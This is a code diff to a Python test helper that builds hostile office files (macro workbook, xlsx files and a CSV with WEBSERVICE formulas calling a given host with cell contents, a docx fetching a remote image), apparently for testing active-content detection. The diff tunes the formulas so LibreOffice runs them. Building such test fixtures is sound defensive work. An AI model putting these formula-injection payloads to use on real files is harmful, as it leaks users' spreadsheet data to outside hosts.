@@ -72,12 +72,15 @@ def hostile(host: str) -> dict[str, bytes]:
     ledger = test_active_content.hostile()
     with zipfile.ZipFile(io.BytesIO(ledger)) as old, zipfile.ZipFile(stream := io.BytesIO(), "w") as new:
         for name in old.namelist():
-            new.writestr(name, old.read(name).replace(EVIL.encode(), host.encode()))
+            body = old.read(name).replace(EVIL.encode(), host.encode())
+            # In a cell LibreOffice knows the function by this name alone; a rule that asks for a cell at fault asks nobody.
+            body = body.replace(b"<f>WEBSERVICE(", b"<f>_xlfn.WEBSERVICE(").replace(b"ENCODEURL($A$2)", b"ENCODEURL($D$2)")
+            new.writestr(name, body)
     return {
         "every_way.xlsm": stream.getvalue(),
         "cell.xlsx": _workbook(f'=_xlfn.WEBSERVICE("{host}/cell?"&A2)'),
         "rule.xlsx": _workbook(None, test_active_content.RULES.replace(EVIL, host)),
-        "names.csv": "\r\n".join(name for name in hostile_names.village_names(host) if name.startswith("=")).encode(),
+        "names.csv": f'甲,=WEBSERVICE("{host}/list")\r\n乙;=WEBSERVICE("{host}/list")\r\n'.encode(),
         "picture.docx": _document(f"{host}/picture.png"),
     }
 
